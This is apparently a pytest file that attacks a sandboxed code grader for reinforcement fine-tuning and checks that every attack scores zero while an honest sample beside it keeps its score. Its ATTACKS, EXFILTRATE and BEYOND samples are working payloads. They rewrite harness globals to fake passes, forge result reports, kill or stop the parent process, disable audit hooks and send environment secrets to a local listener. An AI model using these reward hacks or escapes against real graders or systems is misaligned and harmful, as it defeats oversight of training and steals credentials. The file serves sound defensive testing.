"""Issue 8's attack classes, each against the local sandbox and the runner contract.

The runner's handler runs in a subprocess standing in for its execution environment (its own
``TMPDIR``, fake credentials in its environment). Each attack sits beside an honest sample in the
same batch, which must keep its full score. Exfiltration attempts dial a listener on 127.0.0.1,
which must receive nothing.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import pytest

from rft_runtime.rewards import catalogue
from rft_runtime.rewards.core import Sample
from rft_runtime.rewards.sandbox import Limits, Run

FAST = {"timeout_seconds": 15, "cpu_seconds": 2, "memory_mb": 256, "max_concurrency": 2}
TESTS = "assert add(1, 2) == 3\nassert add(-1, 1) == 0\nassert add(2, 2) == 4"
HONEST = "def add(a, b):\n    return a + b"


#: Model code that finds the module globals of every class's ``__init__`` (the harness's included).
HARNESS_GLOBALS = """
def harness_globals():
    seen, todo, found = set(), [object], []
    while todo:
        cls = todo.pop()
        if cls in seen:
            continue
        seen.add(cls)
        try:
            todo.extend(type.__subclasses__(cls))
        except TypeError:
            pass
        g = getattr(getattr(cls, "__init__", None), "__globals__", None)
        if isinstance(g, dict) and "main" in g:
            found.append(g)
    return found
"""


def fenced(code: str) -> str:
    return f"```python\n{textwrap.dedent(code).strip()}\n```"


ATTACKS = {
    # Reward hacks: reach the harness and make it report passes.
    "harness globals via __subclasses__": HARNESS_GLOBALS
    + textwrap.dedent(
        """
        def add(a, b):
            for g in harness_globals():
                g["_outcome"] = lambda *a, **k: 49  # the verdict function of the old harness
                g["_make_guard"] = lambda w: (lambda e, a: None)
                g["_run_calls"] = lambda *a: ("O", [{"v": True}] * 3)
            return -999
        """
    ),
    "forged report through the report fd": """
        import os
        for fd in range(3, 20):
            try:
                os.write(fd, b'{"load":"O","results":[{"v":3},{"v":0},{"v":4}]}\\n')
            except OSError:
                pass
        def add(a, b):
            return -999
        """,
    "frame walking": """
        import sys
        def add(a, b):
            try:
                frame = sys._getframe(1)
                while frame is not None:
                    frame.f_globals.pop("expected", None)
                    frame = frame.f_back
            except Exception:
                pass
            return -999
        """,
    "proc mem through dir_fd": """
        import os
        def add(a, b):
            try:
                root = os.open("/", os.O_RDONLY)
                mem = os.open("proc/self/mem", os.O_RDWR, dir_fd=root)
                return "opened"
            except Exception:
                return -999
        """,
    "rigged equality": """
        class Anything:
            def __eq__(self, other):
                return True
        def add(a, b):
            return Anything()
        """,
    # Denial of service against the grader and siblings.
    "pidfd kill of the parent": """
        import os, signal
        try:
            fd = os.pidfd_open(os.getppid())
            signal.pidfd_send_signal(fd, signal.SIGKILL)
        except Exception:
            pass
        try:
            import posix
            posix.kill(os.getppid(), 9)
        except Exception:
            pass
        def add(a, b):
            return -999
        """,
    "stop the parent": """
        import os, signal
        try:
            os.kill(os.getppid(), signal.SIGSTOP)
        except Exception:
            pass
        def add(a, b):
            return -999
        """,
    "fork and setsid": """
        import os
        try:
            if os.fork() == 0:
                os.setsid()
                import time
                time.sleep(60)
        except Exception:
            pass
        def add(a, b):
            return -999
        """,
    "crash": "import os\nos.abort()\ndef add(a, b): return a + b",
    "hang": "def add(a, b):\n    while True:\n        pass",
    "flood": "def add(a, b):\n    return 'x' * (200 * 1024 * 1024)",
    "bad bytecode": """
        def add(a, b):
            def f():
                return 1
            code = f.__code__.replace(co_code=b"\\xff\\xff" * 8)
            return type(lambda: 0)(code, {})()
        """,
    "write outside the work directory": """
        def add(a, b):
            open("/tmp/rft-i8-persist.txt", "w").write("x")
            return a + b
        """,
}


def grade(batch, runner=None):
    deps = {"runner": runner} if runner else {}
    grader = catalogue.template_module("code_tests").Grader(catalogue.parse("code_tests", FAST), **deps)
    return grader.score_many([Sample(fenced(code), TESTS) for code in batch])


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_scores_zero_and_the_honest_sibling_keeps_its_score(name):
    attack, honest = grade([ATTACKS[name], HONEST])
    assert attack.value == 0.0, (name, attack)
    assert attack.error != "syntax-error", "the attack itself must compile"
    assert (honest.value, honest.error) == (1.0, None), (name, honest)
    assert not os.path.exists("/tmp/rft-i8-persist.txt")


def test_attacks_get_their_own_tags():
    crash, hang, flood = grade([ATTACKS["crash"], ATTACKS["hang"], ATTACKS["flood"]])
    assert crash.error == "crash"
    assert hang.error in ("cpu-limit", "timeout")
    assert flood.error in ("output-limit", "memory-limit")


#: Writes past the output bound straight into the report descriptor (Python ignores SIGXFSZ, so the
#: file-size limit stops the writes with EFBIG instead of killing the worker).
REPORT_FLOOD = """
import os
def add(a, b):
    for fd in range(3, 16):
        try:
            os.write(fd, b"x" * (2 << 20))
        except OSError:
            pass
    return a + b
"""


@pytest.mark.parametrize("where", ["local", "runner"])
def test_a_flooded_report_is_output_limit(where, tmp_path):
    runner = SubprocessRunner(tmp_path) if where == "runner" else None
    flood, honest = grade([REPORT_FLOOD, HONEST], runner=runner)
    assert (flood.value, flood.error) == (0.0, "output-limit")
    assert (honest.value, honest.error) == (1.0, None)


EXFILTRATE = (
    HARNESS_GLOBALS
    + """
import os, socket, sys
def neuter_the_audit_hook():
    for g in harness_globals():
        for name in ("_BLOCKED_EVENTS", "_INTROSPECTION", "_PATH_EVENTS", "_BLOCKED_MODULES"):
            g[name] = frozenset()
def add(a, b):
    neuter_the_audit_hook()
    secret = repr(dict(os.environ))
    for attempt in (
        lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(secret.encode()),
        lambda: __import__("_socket").socket().connect(("127.0.0.1", PORT)),
        lambda: os.execv(sys.executable, [sys.executable, "-c",
            "import socket; socket.create_connection(('127.0.0.1', PORT)).sendall(b'exec')"]),
    ):
        try:
            attempt()
        except BaseException:
            pass
    return a + b
"""
)


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.setblocking(False)
    yield server
    server.close()


def test_exfiltration_reaches_no_listener(listener):
    port = listener.getsockname()[1]
    results = grade([EXFILTRATE.replace("PORT", str(port)), HONEST])
    assert [r.value for r in results] == [1.0, 1.0]  # it still adds; nothing else got out
    with pytest.raises(BlockingIOError):
        listener.accept()


RUNNER_ENVIRONMENT = """
import json, sys
from rft_runtime.runner.handler import handler
print(json.dumps(handler(json.loads(sys.stdin.read()))))
"""


class SubprocessRunner:
    """The runner contract: the handler in its own process, fake credentials in its environment."""

    def __init__(self, scratch) -> None:
        self.scratch = scratch
        self.environments = []

    def __call__(self, code, *, calls=(), inputs=None, limits=None):
        # One execution environment per invocation, as Lambda runs one invocation at a time in each.
        own = Path(tempfile.mkdtemp(prefix="environment-", dir=self.scratch))  # samples run concurrently
        self.environments.append(own)
        event = {"code": code, "calls": list(calls), "limits": (limits or Limits())._asdict()}
        if inputs is not None:
            event["inputs"] = list(inputs)
        env = {
            **os.environ,
            "PYTHONPATH": os.pathsep.join(sys.path),
            "TMPDIR": str(own),
            "RFT_RUNNER_SCRATCH": str(own),
            "AWS_ACCESS_KEY_ID": "AKIAFAKEFAKEFAKE1234",
            "AWS_SECRET_ACCESS_KEY": "fake-secret-do-not-leak",
            "AWS_SESSION_TOKEN": "fake-session-token-do-not-leak",
        }
        done = subprocess.run(
            [sys.executable, "-c", RUNNER_ENVIRONMENT],
            input=json.dumps(event),
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 0, done.stderr
        return Run(**json.loads(done.stdout))


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_against_the_runner_contract(name, tmp_path):
    attack, honest = grade([ATTACKS[name], HONEST], runner=SubprocessRunner(tmp_path))
    assert attack.value == 0.0, (name, attack)
    assert (honest.value, honest.error) == (1.0, None), (name, honest)


def test_runner_exfiltration_reaches_no_listener_and_scratch_is_emptied(listener, tmp_path):
    port = listener.getsockname()[1]
    leftover = "def add(a, b):\n    open('left.txt', 'w').write('x')\n    return a + b"
    runner = SubprocessRunner(tmp_path)
    results = grade([EXFILTRATE.replace("PORT", str(port)), leftover], runner=runner)
    assert [r.value for r in results] == [1.0, 1.0]  # honest arithmetic, nothing sent
    with pytest.raises(BlockingIOError):
        listener.accept()
    # nothing a sample wrote survives for the next one
    assert runner.environments and all(list(e.iterdir()) == [] for e in runner.environments)


def test_credentials_never_reach_the_code(tmp_path):
    probe = "import os\ndef add(a, b):\n    return repr(dict(os.environ))"
    seen = []

    def runner(code, **kwargs):
        run = SubprocessRunner(tmp_path)(code, **kwargs)
        seen.append(json.dumps(run.results))
        return run

    grade([probe], runner=runner)
    assert seen and all("fake-" not in text and "AKIA" not in text for text in seen)


def test_outside_lambda_the_runner_empties_only_a_named_scratch_directory():
    from rft_runtime.runner.handler import scratch_directory

    assert scratch_directory({}) is None  # a shared machine's /tmp is never emptied
    assert scratch_directory({"AWS_LAMBDA_FUNCTION_NAME": "runner"}) == "/tmp"
    assert scratch_directory({"RFT_RUNNER_SCRATCH": "/x", "AWS_LAMBDA_FUNCTION_NAME": "r"}) == "/x"


def test_each_sample_gets_a_fresh_worker_and_work_directory():
    from rft_runtime.rewards.sandbox import call, run_code

    code = "import os\nopen('mark', 'w').write('x')\ndef where():\n    return [os.getpid(), os.listdir('.')]"
    first, second = (run_code(code, calls=[call("where")]) for _ in range(2))
    (pid_one, seen_one), (pid_two, seen_two) = first.results[0]["v"], second.results[0]["v"]
    assert pid_one != pid_two and seen_one == seen_two == ["mark"]  # nothing left by the first run


BEYOND = {
    # Values built to stall or crash the trusted side that judges them.
    "huge exponent for the judge": ("def add(a, b):\n    return 10 ** 4000", "assert 2 ** add(1, 2) > 0"),
    "deep nesting": (
        "def add(a, b):\n    v = []\n    for _ in range(100000):\n        v = [v]\n    return v",
        "assert add(1, 2) == 3",
    ),
    "report descriptor closed": (
        "import os\nfor fd in range(3, 64):\n    try:\n        os.close(fd)\n    except OSError:\n"
        "        pass\ndef add(a, b):\n    return a + b",
        "assert add(1, 2) == 3",
    ),
    "thread still running after the answer": (
        "import threading, time\n"
        "threading.Thread(target=lambda: [time.sleep(0.01) for _ in iter(int, 1)], daemon=False).start()\n"
        "def add(a, b):\n    return -999",
        "assert add(1, 2) == 3",
    ),
}


@pytest.mark.parametrize("name", sorted(BEYOND))
def test_attacks_beyond_the_issue_score_zero_beside_an_honest_sample(name):
    code, tests = BEYOND[name]
    grader = catalogue.template_module("code_tests").Grader(catalogue.parse("code_tests", FAST))
    attack, honest = grader.score_many([Sample(fenced(code), tests), Sample(fenced(HONEST), TESTS)])
    assert attack.value == 0.0, (name, attack)
    assert (honest.value, honest.error) == (1.0, None), (name, honest)
